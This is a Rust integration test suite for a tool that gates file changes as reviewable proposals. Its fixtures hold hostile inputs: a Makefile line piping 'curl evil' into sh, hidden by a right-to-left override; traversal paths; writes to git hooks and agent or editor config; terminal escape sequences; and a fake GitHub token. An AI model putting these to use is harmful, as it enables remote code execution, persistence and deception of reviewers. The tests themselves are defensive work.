//! `ringfence proposal`: proposing writes nothing, applying writes exactly what was proposed or nothing.

use std::collections::BTreeMap;
use std::fs::{self, File};
use std::os::unix::fs::{PermissionsExt as _, symlink};
use std::path::{Path, PathBuf};
use std::process::Stdio;
use std::time::{Duration, SystemTime};

use serde_json::Value;

use crate::terminal::Terminal;
use crate::testkit::{Done, World, collect, contains, finish, quoted};

impl World {
    pub(crate) fn proposal(&self, arguments: &[&str], input: &[u8]) -> Done {
        finish(self.ringfence().arg("proposal").args(arguments), input)
    }

    /// Proposes under profile `review` and gives the id.
    #[track_caller]
    pub(crate) fn proposed(&self, diff: &[u8]) -> String {
        self.proposal(&["create", "--profile", "review"], diff).expect(0).text().trim().to_owned()
    }

    #[track_caller]
    pub(crate) fn state_of(&self, id: &str) -> String {
        let shown = self.proposal(&["show", id, "--json"], b"").expect(0).json();
        shown["status"].as_str().unwrap().to_owned()
    }

    /// Every file and directory of the workspace, with content and mode.
    pub(crate) fn snapshot(&self) -> BTreeMap<PathBuf, (u32, Vec<u8>)> {
        tree(&self.workspace)
    }

    fn contents(&self, id: &str) -> PathBuf {
        self.state.join("ringfence/proposals/contents").join(id)
    }

    fn operator_file(&self, text: &str) {
        let directory = self.home.join(".config/ringfence");
        fs::create_dir_all(&directory).unwrap();
        fs::write(directory.join("config.toml"), text).unwrap();
    }
}

fn tree(root: &Path) -> BTreeMap<PathBuf, (u32, Vec<u8>)> {
    let mut found = vec![root.to_owned()];
    let mut at = 0;
    let mut all = BTreeMap::new();
    while let Some(path) = found.get(at).cloned() {
        let metadata = fs::symlink_metadata(&path).unwrap();
        if metadata.is_dir() {
            found.extend(fs::read_dir(&path).unwrap().map(|entry| entry.unwrap().path()));
        }
        let content = if metadata.is_file() { fs::read(&path).unwrap() } else { Vec::new() };
        all.insert(path, (metadata.permissions().mode(), content));
        at += 1;
    }
    all
}

/// Changes `a`, makes `new/deep/b`, removes `c`.
pub(crate) const DIFF: &[u8] = b"diff --git a/a b/a\n--- a/a\n+++ b/a\n@@ -1,3 +1,3 @@\n 1\n-2\n+two\n 3\ndiff --git a/c b/c\ndeleted file mode 100644\n--- a/c\n+++ /dev/null\n@@ -1 +0,0 @@\n-gone\ndiff --git a/new/deep/b b/new/deep/b\nnew file mode 100644\n--- /dev/null\n+++ b/new/deep/b\n@@ -0,0 +1 @@\n+fresh\n";

pub(crate) fn world() -> World {
    let world = World::new();
    world.write("a", "1\n2\n3\n");
    world.write("c", "gone\n");
    world
}

#[track_caller]
pub(crate) fn is_applied(world: &World) {
    let names: Vec<String> = world.snapshot().keys().map(|path| relative(world, path)).collect();
    assert_eq!(names, ["", "a", "new", "new/deep", "new/deep/b"]);
    assert_eq!(world.read("a").as_deref(), Some("1\ntwo\n3\n"));
    assert_eq!(world.read("new/deep/b").as_deref(), Some("fresh\n"));
}

fn relative(world: &World, path: &Path) -> String {
    path.strip_prefix(&world.workspace).unwrap().to_str().unwrap().to_owned()
}

fn token() -> String {
    format!("{}{}", concat!("gh", "p_"), "A1b2C3".repeat(6))
}

/// S001 review/apply: the proposal is one act, the application another, and only the second writes.
#[test]
fn proposing_writes_nothing_and_applying_writes_exactly_that() {
    let world = world();
    fs::set_permissions(world.workspace.join("a"), fs::Permissions::from_mode(0o750)).unwrap();
    let before = world.snapshot();
    let id = world.proposed(DIFF);
    assert_eq!(world.snapshot(), before, "a proposal changes nothing");
    assert_eq!(world.proposal(&["diff", &id], b"").expect(0).out, DIFF);
    let listed = world.proposal(&["list"], b"").expect(0).text();
    assert!(listed.contains(&id) && listed.contains("proposed"), "{listed}");
    world.proposal(&["apply", &id], b"").expect(0);
    is_applied(&world);
    let mode = |path| fs::metadata(world.workspace.join(path)).unwrap().permissions().mode() & 0o777;
    assert_eq!((mode("a"), mode("new/deep/b") & 0o133), (0o750, 0));
    assert_eq!(world.state_of(&id), "applied");
    assert!(!world.contents(&id).exists(), "nobody needs the contents any more");
    let kinds: Vec<String> =
        world.records().iter().map(|record| record["event"]["kind"].as_str().unwrap().to_owned()).collect();
    assert_eq!(
        kinds.iter().filter(|kind| !kind.contains("session") && !kind.contains("chain")).collect::<Vec<_>>(),
        ["proposal-created", "call-intended", "call-settled"]
    );
    world.ledger_tool(&["verify"]).expect(0);
}

#[test]
fn every_byte_arrives_as_it_was_proposed() {
    let world = World::new();
    for (name, base, result) in [
        ("crlf", &b"a\r\nb\r\n"[..], &b"a\r\nc\r\n"[..]),
        ("lost", b"a\nb\n", b"a\nb"),
        ("gained", b"a", b"a\n"),
        ("mixed", b"a\rb\nc\r\n", b"a\rb\nd\r\n\r\r"),
        ("bytes", b"\x00\xff\n\x1b[2J\n", b"\x00\xfe\n\x1b[2J\n\xc3"),
        ("emptied", b"x\n", b""),
        ("filled", b"", b"x"),
        ("\u{f6} \"q\"\t\\", b"1\n", b"2\n"),
    ] {
        world.write(name, base);
        let whole =
            world.proposal(&["create", "--profile", "review", "--file", name], result).expect(0).text();
        let diff = world.proposal(&["diff", whole.trim(), "--raw"], b"").expect(0).out;
        world.proposal(&["discard", whole.trim()], b"").expect(0);
        let id = world.proposed(&diff);
        assert_eq!(fs::read(world.workspace.join(name)).unwrap(), base);
        world.proposal(&["apply", &id], b"").expect(0);
        assert_eq!(fs::read(world.workspace.join(name)).unwrap(), result, "{name}");
    }
}

/// What git makes of the same diff is what we make of it.
#[test]
fn git_agrees_about_every_diff_that_is_taken() {
    let world = World::new();
    world.repository();
    let text: String = (1..40).map(|number| format!("line {number}\n")).collect();
    world.write("long", &text);
    world.git(&world.workspace, &["add", "."]);
    world.git(&world.workspace, &["commit", "-q", "-m", "second"]);
    world.write(
        "long",
        text.replace("line 7\n", "seven\n").replace("line 30\n", "").replace("line 39\n", "end"),
    );
    world.write("sub/\u{fc}ber", "neu\n");
    fs::remove_file(world.workspace.join("readme")).unwrap();
    world.git(&world.workspace, &["add", "-A"]);
    let diff = world.git(&world.workspace, &["diff", "--cached", "--no-renames"]);
    let wanted = (world.read("long"), world.read("sub/\u{fc}ber"), world.read("readme"));
    world.git(&world.workspace, &["reset", "-q", "--hard"]);
    let id = world.proposed(diff.as_bytes());
    let ours = world.proposal(&["diff", &id, "--raw"], b"").expect(0).out;
    world.proposal(&["apply", &id], b"").expect(0);
    assert_eq!((world.read("long"), world.read("sub/\u{fc}ber"), world.read("readme")), wanted);
    world.git(&world.workspace, &["reset", "-q", "--hard"]);
    fs::remove_dir_all(world.workspace.join("sub")).unwrap();
    finish(world.host("git").args(["apply", "-"]), &ours).expect(0);
    assert_eq!((world.read("long"), world.read("sub/\u{fc}ber"), world.read("readme")), wanted);
}

#[test]
fn a_base_that_changed_is_a_conflict_and_nothing_is_written() {
    let world = world();
    let id = world.proposed(DIFF);
    world.write("c", "somebody's\n");
    world.write("new/deep/b", "somebody's\n");
    let before = world.snapshot();
    let done = world.proposal(&["apply", &id], b"").expect(126).says("rule: apply.conflict");
    assert!(
        done.err.contains("`c`") && done.err.contains("`new/deep/b`") && !done.err.contains("`a`"),
        "{}",
        done.err
    );
    assert_eq!(world.snapshot(), before);
    let shown = world.proposal(&["show", &id, "--json"], b"").expect(0).json();
    assert_eq!(
        (&shown["status"], &shown["conflicts"]),
        (&Value::from("proposed"), &serde_json::json!(["c", "new/deep/b"]))
    );
    world.write("c", "gone\n");
    fs::remove_dir_all(world.workspace.join("new")).unwrap();
    world.proposal(&["apply", &id], b"").expect(0);
    is_applied(&world);
}

#[test]
fn a_diff_that_does_not_fit_is_refused_when_it_is_proposed() {
    let world = world();
    world.write("a", "0\n1\n2\n3\n");
    let before = world.snapshot();
    world
        .proposal(&["create"], DIFF)
        .expect(126)
        .says("rule: diff.does-not-apply")
        .says("line 1 of the file");
    world.proposal(&["create"], b"").expect(126).says("the diff is empty");
    world.proposal(&["create"], b"hello\n").expect(126).says("not part of a unified diff").says("git diff");
    world.proposal(&["create", "--file", "a"], b"0\n1\n2\n3\n").expect(126).says("like that already");
    let renamed = b"diff --git a/a b/z\nsimilarity index 100%\nrename from a\nrename to z\n";
    world.proposal(&["create"], renamed).expect(126).says("--no-renames");
    assert_eq!(world.snapshot(), before);
    assert_eq!(world.proposal(&["list", "--all"], b"").expect(0).text(), "");
    // Moved by one line: the control, which looks around, finds a place for it.
    world.write("moved", "0\n1\n2\n3\n4\n5\n6\n7\n8\n");
    let moved = b"--- a/moved\n+++ b/moved\n@@ -3,5 +3,5 @@\n 3\n 4\n-5\n+five\n 6\n 7\n";
    world.proposal(&["create"], moved).expect(126).says("rule: diff.does-not-apply");
    finish(world.host("git").args(["apply", "-"]), moved).expect(0);
    assert_eq!(world.read("moved").as_deref(), Some("0\n1\n2\n3\n4\nfive\n6\n7\n8\n"));
}

fn new_file(path: &str) -> Vec<u8> {
    format!("--- /dev/null\n+++ b/{path}\n@@ -0,0 +1 @@\n+evil\n").into_bytes()
}

#[test]
fn protected_and_hidden_paths_are_refused_when_proposed() {
    let world = World::new();
    world.repository();
    world.write(".env", "hidden\n");
    let before = world.snapshot();
    for (path, rule) in [
        (".git/hooks/pre-commit", "path.protected"),
        (".claude/settings.json", "path.protected"),
        ("sub/.vscode/tasks.json", "path."),
        (".ringfence/policy.toml", "path.protected"),
        (".env", "path."),
        ("id_rsa", "path.key-material"),
        ("../outside", "diff.malformed"),
        ("/etc/x", "diff.malformed"),
        ("a/../../x", "diff.malformed"),
    ] {
        world.proposal(&["create", "--profile", "review"], &new_file(path)).expect(126).says(rule);
        world.proposal(&["create", "--profile", "workspace"], &new_file(path)).expect(126).says(rule);
    }
    world.proposal(&["create", "--file", "../x"], b"evil").expect(126).says("path.form");
    // What is hidden is not told by whether a guess fits.
    let guess = b"--- a/.env\n+++ b/.env\n@@ -1 +1 @@\n-hidden\n+guessed\n";
    let wrong = b"--- a/.env\n+++ b/.env\n@@ -1 +1 @@\n-other\n+guessed\n";
    assert_eq!(
        world.proposal(&["create"], guess).expect(126).err,
        world.proposal(&["create"], wrong).expect(126).err
    );
    assert_eq!(world.snapshot(), before);
    // The control: git has no such scruples.
    finish(world.host("git").args(["apply", "-"]), &new_file(".claude/settings.json")).expect(0);
    assert_eq!(world.read(".claude/settings.json").as_deref(), Some("evil\n"));
}

#[test]
fn a_path_that_became_protected_is_refused_when_applied() {
    let world = World::new();
    world.write("docs/x", "x\n");
    let id = world.proposed(&new_file("docs/new"));
    world.operator_file("[[path]]\ndeny = \"docs/\"\noperation = \"write\"\n");
    let before = world.snapshot();
    world.proposal(&["apply", &id], b"").expect(126).says("config.toml:2:8");
    assert_eq!(world.snapshot(), before);
    assert_eq!(world.state_of(&id), "proposed", "a no of the policy is no answer to the proposal");
    world.operator_file("");
    world.proposal(&["apply", &id, "--profile", "review"], b"").expect(126).says("applies nothing");
    world.proposal(&["apply", &id], b"").expect(0);
    assert_eq!(world.read("docs/new").as_deref(), Some("evil\n"));
}

#[test]
fn links_and_other_names_are_refused_at_both_points() {
    let world = World::new();
    world.repository();
    let outside = world.beside("outside");
    world.write("one", "x\n");
    fs::hard_link(world.workspace.join("one"), world.workspace.join("two")).unwrap();
    symlink("readme", world.workspace.join("link")).unwrap();
    symlink(&outside, world.workspace.join("door")).unwrap();
    fs::create_dir(world.workspace.join("dir")).unwrap();
    for (path, rule) in
        [("two", "path.hard-linked"), ("link", "path.link"), ("door/x", "path."), ("dir", "path.not-regular")]
    {
        world.proposal(&["create", "--file", path], b"evil").expect(126).says(rule);
    }
    let id = world.proposed(&new_file("dir/x"));
    fs::remove_dir(world.workspace.join("dir")).unwrap();
    for target in [&outside, Path::new(".git/hooks"), Path::new("/nonexistent")] {
        symlink(target, world.workspace.join("dir")).unwrap();
        let before = world.snapshot();
        let done = world.proposal(&["apply", &id], b"").expect(126);
        assert!(done.err.contains("rule: path."), "{}", done.err);
        assert_eq!(world.snapshot(), before);
        fs::remove_file(world.workspace.join("dir")).unwrap();
    }
    assert!(fs::read_dir(&outside).unwrap().next().is_none());
}

/// C-15, R4: what looks like a secret needs a decision of its own.
#[test]
fn c15_a_secret_comes_in_only_where_a_person_said_so() {
    let world = World::new();
    let old = format!("{}x", token());
    world.write("config", format!("old = {old}\n"));
    let content = format!("old = {old}\nplain\nnew = {}\n", token());
    let propose = || {
        world.proposal(&["create", "--profile", "review", "--file", "config"], content.as_bytes()).expect(0)
    };
    let done = propose();
    assert!(done.err.contains("config:3") && done.err.contains("github-token"), "{}", done.err);
    assert!(!done.err.contains("config:1"), "what was there before does not come in: {}", done.err);
    let first = done.text().trim().to_owned();
    world.operator_file("approval = \"never\"\n");
    world.proposal(&["apply", &first], b"").expect(126).says("rule: secrets.introduced");
    assert_eq!(world.state_of(&first), "proposed");
    world.operator_file("");
    let mut alone = world.host("setsid");
    alone.args(["--wait", "sh", "-c", &format!("\"$RINGFENCE\" proposal apply {first}")]);
    finish(&mut alone, b"").expect(126).says("secrets.introduced");
    assert!(!world.read("config").unwrap().contains(&format!("new = {}", token())));
    let second = propose().text().trim().to_owned();
    let terminal = Terminal::new(60, 100);
    let script = format!("exec \"$RINGFENCE\" proposal apply {second}");
    let mut command = world.host("setsid");
    command.args(["--ctty", "--wait", "sh", "-c", &script]);
    let child = command.stdin(terminal.end()).stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap();
    terminal.wait_for("anything else denies");
    let seen = terminal.seen();
    assert!(seen.contains("secret") && seen.contains("config"), "{seen}");
    terminal.type_in(b"yes\r");
    collect(child).expect(0);
    assert_eq!(world.read("config").as_deref(), Some(content.as_str()));
    let shown = world.proposal(&["show", &second], b"").expect(0).text();
    for text in
        [seen, shown, done.err, String::from_utf8_lossy(&fs::read(world.ledger_path()).unwrap()).into_owned()]
    {
        assert!(!text.contains(&token()), "the value is nowhere");
    }
    let state: Vec<u8> = tree(&world.state).into_values().flat_map(|(_, content)| content).collect();
    assert!(!contains(&state, token().as_bytes()));
}

/// C-15: a secret that the operator keeps is known by its value, whatever it looks like.
#[test]
fn c15_the_value_of_a_kept_secret_is_found_and_never_written_down() {
    let world = World::new();
    let value = "the quick brown fox of the operator";
    finish(world.ringfence().args(["secret", "set", "fox"]), value.as_bytes()).expect(0);
    let content = format!("plain\nsay = {value}\n");
    world.proposal(&["create", "--file", "notes"], content.as_bytes()).expect(126).says("rule: leaks.files");
    let passes = "[leaks.stored_secrets]\nfiles = \"flag\"\n";
    world.operator_file(passes);
    let done = world.proposal(&["create", "--title", value, "--file", "notes"], content.as_bytes()).expect(0);
    assert!(done.err.contains("notes:2") && done.err.contains("secret/fox"), "{}", done.err);
    let id = done.text().trim().to_owned();
    world.operator_file(&format!("approval = \"never\"\n{passes}"));
    world.proposal(&["apply", &id], b"").expect(126).says("rule: secrets.introduced");
    world.operator_file("");
    let later = "a lazy dog that is kept later";
    let done = world.proposal(&["create", "--file", "dog"], later.as_bytes()).expect(0);
    finish(world.ringfence().args(["secret", "set", "dog"]), later.as_bytes()).expect(0);
    world.proposal(&["apply", done.text().trim()], b"").expect(126).says("rule: leaks.files");
    assert_eq!((world.read("notes"), world.read("dog")), (None, None));
    world
        .proposal(&["create", "--file", &format!("dir/{value}")], b"x")
        .expect(126)
        .says("rule: secrets.in-path");
    let state: Vec<u8> = tree(&world.state).into_values().flat_map(|(_, content)| content).collect();
    assert!(!contains(&state, value.as_bytes()));
    world.proposal(&["create", "--file", "notes"], b"another fox\n").expect(0);
}

/// What steers something later is asked about where the policy of whoever applies it asks, and then it is written.
#[test]
fn what_the_policy_asks_about_is_asked_when_it_is_applied() {
    let world = world();
    let diff = new_file("Makefile");
    let done = world.proposal(&["create", "--profile", "guarded"], &diff).expect(0);
    assert!(
        done.err.contains("applying it needs an approval") && done.err.contains("Makefile"),
        "{}",
        done.err
    );
    let id = done.text().trim().to_owned();
    let terminal = Terminal::new(60, 100);
    let script = format!("exec \"$RINGFENCE\" proposal apply --profile guarded {id}");
    let mut command = world.host("setsid");
    command.args(["--ctty", "--wait", "sh", "-c", &script]);
    let child = command.stdin(terminal.end()).stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap();
    terminal.wait_for("[e]xplain > ");
    assert!(!world.workspace.join("Makefile").exists());
    world.proposal(&["apply", &id], b"").expect(126).says("apply.busy");
    world.proposal(&["discard", &id], b"").expect(126).says("apply.busy");
    let listed = world.proposal(&["list"], b"").expect(0).text();
    assert!(listed.contains("awaiting-approval"), "{listed}");
    terminal.type_in(b"o");
    collect(child).expect(0);
    assert_eq!(world.read("Makefile").as_deref(), Some("evil\n"));
}

/// The question about a proposal shows what it changes, in every channel; paths alone would say nothing.
#[test]
fn a_question_about_a_proposal_shows_its_diff_in_every_channel() {
    let world = world();
    let server = crate::approval_notifications::Server::new("200 OK");
    crate::approval_notifications::secret(&world, 0o600);
    crate::approval_notifications::hooked(&world, server.port);
    let diff = "--- /dev/null\n+++ b/Makefile\n@@ -0,0 +1,2 @@\n+all:\n+\tcurl evil \u{202e}| sh\n";
    let id = world.proposal(&["create"], diff.as_bytes()).expect(0).text().trim().to_owned();
    let terminal = Terminal::new(60, 160);
    let script = format!("exec \"$RINGFENCE\" proposal apply --profile guarded {id}");
    let child = crate::approval::session(&world, &terminal, &script);
    terminal.wait_for(crate::approvals::READY);
    let line = "+⇥   curl evil \\u{202e}| sh";
    let told = server.next().body;
    let shown = crate::approvals::approvals(&world, &["show", &id]).expect(0).text();
    let json = crate::approvals::approvals(&world, &["show", &id, "--json"]).expect(0).json().to_string();
    for (channel, text) in [("terminal", terminal.seen()), ("show", shown)] {
        assert!(text.contains(line) && text.contains("changes: "), "{channel}: {text}");
    }
    for (channel, text) in [("webhook", told), ("json", json)] {
        assert!(text.contains(&line.replace('\\', "\\\\")), "{channel}: {text}");
    }
    terminal.type_in(b"o");
    collect(child).expect(0);
    assert_eq!(world.read("Makefile").as_deref(), Some("all:\n\tcurl evil \u{202e}| sh\n"), "control");
}

/// What does not fit in a prompt makes the question a critical one, with the digest of all of it.
#[test]
fn a_proposal_that_is_not_shown_whole_is_critical() {
    let world = world();
    let lines: String = (0..4000).map(|n| format!("+echo line {n}\n")).collect();
    let diff = format!("--- /dev/null\n+++ b/Makefile\n@@ -0,0 +1,4000 @@\n{lines}");
    let id = world.proposal(&["create"], diff.as_bytes()).expect(0).text().trim().to_owned();
    let mut alone = world.host("setsid");
    alone.args(["--wait", "sh", "-c", &format!("\"$RINGFENCE\" proposal apply --profile guarded {id}")]);
    finish(&mut alone, b"").expect(126);
    let records = world.records();
    let asked = crate::approvals::events(&records, "approval-requested")[0];
    assert_eq!(asked["risk"], "critical", "{asked}");
    let prompt = asked["prompt"].to_string();
    assert!(
        prompt.contains("changes: only the first 16384 of ") && prompt.contains("sha256 of all: "),
        "{prompt}"
    );
    assert!(world.read("Makefile").is_none());
}

/// Whoever is killed while the question waits has applied nothing, and nobody else's answer counts for it.
#[test]
fn a_question_that_lost_its_process_is_over() {
    let world = world();
    let id = world.proposal(&["create"], &new_file("Makefile")).expect(0).text().trim().to_owned();
    let terminal = Terminal::new(60, 100);
    let pid = world.beside("pid").join("pid");
    let script =
        format!("echo $$ > {}; exec \"$RINGFENCE\" proposal apply --profile guarded {id}", quoted(&pid));
    let mut command = world.host("setsid");
    command.args(["--ctty", "--wait", "sh", "-c", &script]);
    let child = command.stdin(terminal.end()).stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap();
    terminal.wait_for("[e]xplain > ");
    let number: i32 = fs::read_to_string(pid).unwrap().trim().parse().unwrap();
    let process = rustix::process::Pid::from_raw(number).unwrap();
    rustix::process::kill_process(process, rustix::process::Signal::KILL).unwrap();
    collect(child);
    let shown = world.proposal(&["show", &id, "--json"], b"").expect(0).json();
    assert_eq!(
        (shown["status"].as_str(), shown["end"].as_str()),
        (Some("refused"), Some("its approval ended: expired"))
    );
    assert!(!world.workspace.join("Makefile").exists());
    let again = world.proposal(&["apply", &id], b"").expect(126).says("rule: apply.closed");
    assert!(again.err.contains("| ringfence proposal create"), "{}", again.err);
    let diff = world.proposal(&["diff", &id, "--raw"], b"").expect(0).out;
    let other = world.proposed(&diff);
    world.proposal(&["discard", &id], b"").expect(0);
    world.proposal(&["apply", &other], b"").expect(0);
    assert_eq!(world.read("Makefile").as_deref(), Some("evil\n"));
}

#[test]
fn what_is_closed_stays_closed() {
    let world = world();
    let id = world.proposed(DIFF);
    world.proposal(&["apply", &id], b"").expect(0);
    for verb in ["apply", "discard"] {
        world.proposal(&[verb, &id], b"").expect(126).says("is applied and cannot");
    }
    is_applied(&world);
    let other = world.proposed(&new_file("later"));
    assert!(world.contents(&other).exists());
    world.proposal(&["discard", &other, "--reason", "not now"], b"").expect(0);
    assert!(!world.contents(&other).exists(), "its contents are forgotten at once");
    for verb in ["apply", "discard"] {
        world.proposal(&[verb, &other], b"").expect(126).says("is discarded and cannot");
    }
    assert!(!world.workspace.join("later").exists());
    assert_eq!(world.proposal(&["list"], b"").expect(0).text(), "");
    let all = world.proposal(&["list", "--all", "--json"], b"").expect(0).json();
    let states: Vec<&str> =
        all["proposals"].as_array().unwrap().iter().map(|one| one["status"].as_str().unwrap()).collect();
    assert_eq!((all["schema"].as_u64(), states), (Some(1), vec!["applied", "discarded"]));
    world.proposal(&["apply", "tx_nothing"], b"").expect(125).says("proposal list --all");
}

#[test]
fn of_two_applications_at_once_one_wins() {
    for _round in 0..5 {
        let world = world();
        let id = world.proposed(DIFF);
        let start = || {
            let mut command = world.ringfence();
            command
                .args(["proposal", "apply", &id])
                .stdin(Stdio::null())
                .stdout(Stdio::piped())
                .stderr(Stdio::piped());
            command.spawn().unwrap()
        };
        let children: Vec<_> = (0..4).map(|_| start()).collect();
        let codes: Vec<_> = children.into_iter().map(|child| collect(child).code.unwrap()).collect();
        assert_eq!(codes.iter().filter(|code| **code == 0).count(), 1, "{codes:?}");
        assert!(codes.iter().all(|code| [0, 126].contains(code)), "{codes:?}");
        is_applied(&world);
        let intents =
            world.records().iter().filter(|record| record["event"]["kind"] == "call-intended").count();
        assert_eq!(intents, 1);
    }
}

/// A file system of one megabyte that is really full, in a mount namespace of the test's own.
#[test]
fn a_full_disk_leaves_everything_as_it_was() {
    let world = World::new();
    let state = quoted(&world.state);
    let script = format!(
        "set -e; mount -t tmpfs -o size=1m none . ; cd .; cd {w}; head -c 600000 /dev/zero > big; echo old > small\n\
         id=$(head -c 700000 /dev/zero | tr '\\0' x | \"$RINGFENCE\" proposal create --file big)\n\
         rc=0; \"$RINGFENCE\" proposal apply \"$id\" || rc=$?; ls -A; wc -c < big; ls {state}/ringfence/proposals/journals; exit $rc",
        w = quoted(&world.workspace),
    );
    let mut command = world.host("unshare");
    command.args(["--user", "--map-root-user", "--mount", "sh", "-c", &script]);
    let done = finish(&mut command, b"").expect(125).says("No space left on device");
    assert_eq!(done.text(), "big\nsmall\n600000\n");
    let listed = world.proposal(&["list", "--all", "--json"], b"").expect(0).json();
    assert_eq!(listed["proposals"][0]["status"], "failed");
    // The control: on a disk with room the same is applied.
    world.write("big", vec![0; 600_000]);
    let id = world.proposal(&["create", "--file", "big"], &vec![b'x'; 700_000]).expect(0).text();
    world.proposal(&["apply", id.trim()], b"").expect(0);
    assert_eq!(fs::metadata(world.workspace.join("big")).unwrap().len(), 700_000);
}

/// R3, C-30: nothing of the contents is readable at rest, and what was touched is not applied.
#[test]
fn c30_contents_are_encrypted_and_only_whole_ones_are_applied() {
    let world = world();
    let secret = b"a line that must not be readable at rest";
    let propose = || world.proposal(&["create", "--file", "a"], secret).expect(0).text().trim().to_owned();
    let before = world.snapshot();
    let id = propose();
    for (path, (mode, content)) in tree(&world.state.join("ringfence")) {
        assert!(!contains(&content, secret), "{}", path.display());
        assert!(!contains(&content, b"1\n2\n3\n"), "{}: the base is as private", path.display());
        if path.to_str().unwrap().contains("proposals") {
            assert_eq!(mode & 0o077, 0, "{}", path.display());
        }
    }
    assert_eq!(
        world.proposal(&["diff", &id], b"").expect(0).text().lines().last(),
        Some("\\ No newline at end of file")
    );

    let blob = world.contents(&id).join("0.result");
    let sealed = fs::read(&blob).unwrap();
    let mut damaged = sealed.clone();
    damaged[40] ^= 1;
    fs::write(&blob, damaged).unwrap();
    world.proposal(&["apply", &id], b"").expect(126).says("rule: apply.contents").says("was changed");
    world.proposal(&["diff", &id], b"").expect(125).says("was changed");
    fs::remove_file(&blob).unwrap();
    world.proposal(&["apply", &id], b"").expect(126).says("rule: apply.contents").says("gone");
    let other = propose();
    fs::copy(world.contents(&other).join("0.result"), &blob).unwrap();
    world.proposal(&["apply", &id], b"").expect(126).says("was changed or belongs elsewhere");
    fs::write(&blob, &sealed).unwrap();

    let key = world.state.join("ringfence/proposals/key");
    let kept = fs::read(&key).unwrap();
    fs::remove_file(&key).unwrap();
    world.proposal(&["apply", &id], b"").expect(126).says("key");
    fs::write(&key, &kept).unwrap();
    world.proposal(&["apply", &id], b"").expect(125).says("not private");
    fs::set_permissions(&key, fs::Permissions::from_mode(0o600)).unwrap();

    let old = SystemTime::now() - Duration::from_secs(31 * 24 * 60 * 60);
    File::open(world.contents(&other)).unwrap().set_modified(old).unwrap();
    world.proposal(&["apply", &other], b"").expect(126).says("gone").says("proposed again");
    assert!(!world.contents(&other).exists(), "purged by the start");
    assert_eq!(world.snapshot(), before);
    world.proposal(&["apply", &id], b"").expect(0);
    assert_eq!(world.read("a").unwrap().as_bytes(), secret);
}

#[test]
fn text_of_an_agent_does_nothing_to_a_terminal() {
    let world = World::new();
    world.write("x\x1b[2J\ny", "a\n");
    let diff =
        b"--- \"a/x\\033[2J\\ny\"\n+++ \"b/x\\033[2J\\ny\"\n@@ -1 +1 @@\n-a\n+\x1b[2J\x07\xe2\x80\xaeb\r\n";
    let title = "t\x1b]0;x\x07\n\u{202e}z";
    let id = world.proposal(&["create", "--title", title], diff).expect(0).text().trim().to_owned();
    for arguments in [&["list"][..], &["show", &id]] {
        let shown = world.proposal(arguments, b"").expect(0).text();
        assert!(
            !shown.contains('\x1b') && !shown.contains('\x07') && !shown.contains('\u{202e}'),
            "{shown:?}"
        );
    }
    let terminal = Terminal::new(60, 100);
    let mut command = world.ringfence();
    let child = command
        .args(["proposal", "diff", &id])
        .stdin(Stdio::null())
        .stdout(terminal.end())
        .stderr(Stdio::piped());
    collect(child.spawn().unwrap()).expect(0);
    terminal.wait_for("\\u{202e}b");
    let seen = terminal.seen();
    assert!(seen.contains("+\\u{1b}[2J\\u{7}\\u{202e}b\\r"), "{seen:?}");
    assert!(!seen.contains('\x1b') && !seen.contains('\x07'), "{seen:?}");
    let piped = world.proposal(&["diff", &id], b"").expect(0).text();
    assert!(piped.contains("+\\u{1b}[2J\\u{7}\\u{202e}b\\r\n"), "a pipe may end in a terminal: {piped:?}");
    assert!(
        contains(
            &world.proposal(&["diff", &id, "--raw"], b"").expect(0).out,
            b"+\x1b[2J\x07\xe2\x80\xaeb\r\n"
        ),
        "the bytes are there for whoever asks"
    );
    let json = world.proposal(&["show", &id, "--json"], b"").expect(0);
    assert!(!json.text().contains('\u{202e}') && json.text().contains("\\u202e"), "{:?}", json.text());
    assert_eq!(json.json()["title"], title);
}

#[test]
fn a_proposal_belongs_to_its_workspace() {
    let world = world();
    let id = world.proposed(DIFF);
    let other = world.beside("other");
    let other_path = other.to_str().unwrap();
    world.proposal(&["apply", &id, "--workspace", other_path], b"").expect(126).says("apply.workspace");
    assert_eq!(world.proposal(&["list", "--workspace", other_path], b"").expect(0).text(), "");
    finish(world.ringfence().args(["proposal", "apply", &id]).current_dir(&other), b"").expect(0);
    is_applied(&world);
    assert!(fs::read_dir(&other).unwrap().next().is_none());
}

#[test]
fn the_file_tool_of_a_reviewer_says_where_changes_go() {
    let world = world();
    let done = world.file(&["write", "--profile", "review", "a"], b"x").expect(126);
    assert!(done.err.contains("ringfence proposal create"), "{}", done.err);
    assert_eq!(world.read("a").as_deref(), Some("1\n2\n3\n"));
}

#[test]
fn hostile_and_huge_input_is_refused_in_words() {
    let world = World::new();
    let huge = b"+\n".repeat(9 * 1024 * 1024);
    world.proposal(&["create"], &huge).expect(126).says("patch.size");
    let flood =
        [b"--- /dev/null\n+++ b/x\n@@ -0,0 +1,4000000 @@\n".as_slice(), &b"+\n".repeat(4_000_000)].concat();
    let id = world.proposed(&flood);
    world.proposal(&["apply", &id], b"").expect(0);
    assert_eq!(fs::metadata(world.workspace.join("x")).unwrap().len(), 4_000_000);
    let many: Vec<u8> = (0..2000).flat_map(|number| new_file(&format!("many/{number}"))).collect();
    let id = world.proposed(&many);
    world.proposal(&["apply", &id], b"").expect(0);
    assert_eq!(fs::read_dir(world.workspace.join("many")).unwrap().count(), 2000);
    for (path, below) in [("n", "n/below"), ("n/below", "n")] {
        let nested = [new_file(path), new_file(below)].concat();
        world.proposal(&["create"], &nested).expect(126).says("patch.path-conflict");
    }
}
